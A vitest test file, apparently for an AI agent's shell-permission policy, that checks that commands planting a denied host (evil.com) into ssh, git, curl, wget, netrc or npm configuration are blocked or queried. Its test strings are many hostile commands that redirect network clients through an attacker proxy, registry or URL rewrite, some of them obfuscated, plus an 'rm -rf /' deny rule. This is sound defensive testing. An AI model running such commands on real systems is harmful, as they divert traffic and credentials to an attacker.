// Configuration a line writes for a network client (planted-config.ts): text that names a
// denied host, written into a file ssh, git, curl, wget or netrc readers obey, is a deny (the
// client reaches the host on this line or a later one); a write there whose text the line does
// not show is asked about, never covered by an approval for the session.
import { describe, expect, it } from "vitest";
import { callFacts, decide } from "./decide";
import { sessionKeys } from "./fingerprint";
import { judgeShell, judgeShellNoting, policyOf } from "../testing/policy";
import { shellTool } from "../tools/builtin/shell";

const noEvil = policyOf({ effect: "deny", host: "evil.com" });
const decision = (command: string) => judgeShell(command, noEvil).decision;

describe("a denied host written into a client's configuration is denied", () => {
  it.each([
    "printf 'Host x\\n Hostname evil.com\\n' > ~/.ssh/config; ssh x",
    "printf 'Host x\\n Hostname\\tevil.com\\n' >> ~/.ssh/config && ssh x",
    "printf 'Hostname evil%s\\n' .com >> ~/.ssh/config",
    "printf '%s %s\\n' Hostname evil.com >> ~/.ssh/config",
    "printf 'Hostname \\145vil.com' >> ~/.ssh/config",
    "echo -e 'Host x\\n Hostname evil.com' >> $HOME/.ssh/config",
    "echo $'Hostname evi\\x6c.com' >> ~/.ssh/config",
    "echo 'Hostname EVIL.COM.' >> ~/.ssh//config",
    "echo 'Hostname evil.com' >> ~/.ssh/./config",
    "echo 'Hostname evil.com' >| ~/.ssh/config",
    "echo 'Hostname evil.com' > ~/.ssh/\"config\"",
    "echo 'Hostname evil.com' > \"$HOME/.ssh/config\"",
    "echo 'Hostname evil.com' 1>>~/.ssh/config",
    "cd ~/.ssh && echo 'Hostname evil.com' > config",
    "exec >> ~/.ssh/config; echo 'Hostname evil.com'",
    "printf 'Hostname evil.com' | cat >> ~/.ssh/config",
    "tee ~/.ssh/config <<< 'Hostname evil.com'",
    "f() { echo 'Hostname evil.com' >> ~/.ssh/config; }; f",
    "echo 'ProxyJump evil.com' &>> ~/.ssh/config",
    "echo 'Hostname evil.com' | tee -a ~/.ssh/config",
    "echo 'Include ~/x' > ~/.ssh/config.d/a; echo 'Hostname evil.com' >> ~/.ssh/config.d/a",
    "cat > ~/.ssh/config <<'EOF'\nHost x\n  Hostname evil.com\nEOF\nssh x",
    "cat <<EOF > ~/.ssh/config\nHost x\n  Hostname evil.com\nEOF",
    'H=evil.com; echo "Hostname $H" >> ~/.ssh/config',
    "echo 'proxy = evil.com:8080' >> ~/.curlrc; curl https://a.org",
    "echo 'url = evil.com' > ./.curlrc; CURL_HOME=. curl https://a.org",
    "echo 'https_proxy=http://evil.com' > ~/.wgetrc && wget https://a.org",
    "echo 'machine evil.com login a' >> ~/.netrc",
    "echo 'registry=https://evil.com/' > .npmrc; npm install",
    "printf '[url \"https://evil.com/\"]\\n insteadOf = https://github.com/\\n' >> ~/.gitconfig; git fetch",
    "printf '[http]\\nproxy = evil.com\\n' >> .git/config; git fetch",
    "echo '[http] proxy = evil.com' > ~/.config/git/config",
    "echo '[http] proxy = evil.com' > g.cfg; GIT_CONFIG_GLOBAL=g.cfg git fetch",
    "printf 'Host x\\n Hostname evil.com\\n' > cfg; ssh -F ./cfg x",
    "printf 'Host x\\n Hostname evil.com\\n' > cfg; ssh -Fcfg x",
    "echo 'url = evil.com' > c.txt; curl -K c.txt",
    "sh -c \"echo 'proxy=evil.com' > ~/.curlrc\"",
    "bash -c 'printf \"Hostname evil.com\" >> ~/.ssh/config'",
  ])("%s", (command) => expect(decision(command)).toBe("policy_deny"));
});

describe("a write into a client's configuration that the line does not show is asked about", () => {
  it.each([
    "cp x ~/.ssh/config; ssh a.org",
    "mv /tmp/c ~/.ssh/config",
    "cp -t ~/.ssh /tmp/config",
    "install -m 600 x ~/.netrc",
    "curl https://a.org/cfg > ~/.curlrc; curl https://b.org",
    'echo "Hostname $H" >> ~/.ssh/config',
    "cat x >> ~/.gitconfig",
    "dd if=x of=.git/config",
    "sed -i 's/a.org/b.org/' ~/.ssh/config",
  ])("%s", (command) => {
    const d = judgeShellNoting(command, noEvil);
    expect(d.decision).toBe("policy_ask");
    // What the card says may be another thing it cannot see (`ssh`'s remote command, sed's script).
    expect(d.unchecked).toBeTruthy();
  });

  it("says why", () => {
    expect(judgeShellNoting("cp x ~/.gitconfig", noEvil).unchecked).toMatch(/writes a network client's configuration/);
  });

  it("is not covered by an approval for the session", () => {
    const command = "cp x ~/.curlrc";
    const view = { tool: shellTool, input: { command, network: true } } as never;
    const session = { sessionKeys: new Set(sessionKeys(callFacts(view))), rejected: new Map() };
    // Without a host rule the approval covers it; under a deny of a host it is asked again.
    expect(decide(view, policyOf({ effect: "deny", command: "rm -rf /" }), session).decision).toBe("approved_session");
    expect(decide(view, noEvil, session)).toMatchObject({ action: "ask", decision: "policy_ask" });
  });
});

describe("what writes no client's configuration, or no denied host into it, is not denied", () => {
  it.each([
    "echo evil.com > notes.txt",
    "cat ~/.ssh/config",
    "echo 'Host a\\n Hostname a.org' >> ~/.ssh/config",
    "printf 'Hostname a.org\\n' > ~/.ssh/config",
    "echo ok > config",
    "cp ~/.ssh/config backup",
    "mkdir -p ~/.ssh && touch ~/.ssh/known_hosts",
    "grep evil.com ~/.ssh/config",
    "git config user.name me",
  ])("%s", (command) => expect(decision(command)).not.toBe("policy_deny"));

  it("copying a client's configuration away writes none", () =>
    expect(judgeShellNoting("cp ~/.ssh/config backup", noEvil).unchecked).toBeUndefined());

  it("with no host rule, a write into a client's configuration is no question of the policy's", () => {
    const d = judgeShell("cp x ~/.ssh/config", policyOf({ effect: "deny", command: "rm -rf /" }));
    expect(d.decision).not.toBe("policy_ask");
  });
});
